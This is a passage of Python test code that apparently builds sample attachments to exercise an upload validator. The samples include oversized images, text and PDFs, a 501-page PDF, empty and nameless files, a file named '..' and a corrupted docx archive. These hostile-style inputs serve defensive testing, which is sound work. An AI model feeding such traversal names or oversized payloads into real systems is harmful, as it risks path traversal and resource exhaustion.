        in ("a program", "an archive", "an old Word document", "a project of macros", "a shortcut")
    ]
    large = [
        Sample("a wide image", Attachment("x.png", png(8_001, 1))),
        Sample("a high image", Attachment("x.gif", gif(1, 8_001))),
        Sample("a large image", Attachment("x.png", png(9, 9) + b"\0" * 5 * 1024 * 1024)),
        Sample("a large text", Attachment("x.txt", b"x" * (10 * 1024 * 1024 + 1))),
        Sample("a large PDF", Attachment("x.pdf", pdf("x") + b" " * 10 * 1024 * 1024)),
        Sample("many pages", Attachment("x.pdf", pdf(*[""] * 501))),
        Sample("nothing", Attachment("x.txt", b"")),
        Sample("no name", Attachment("", b"x")),
        Sample("a name of dots", Attachment("..", b"x")),
        Sample(
            "packed noise",
            Attachment("x.docx", b"PK\x03\x04[Content_Types].xml" + zlib.compress(b"x")),
        ),
    ]
    return [*harmless(), *made, *renamed, *truncated(), *large]
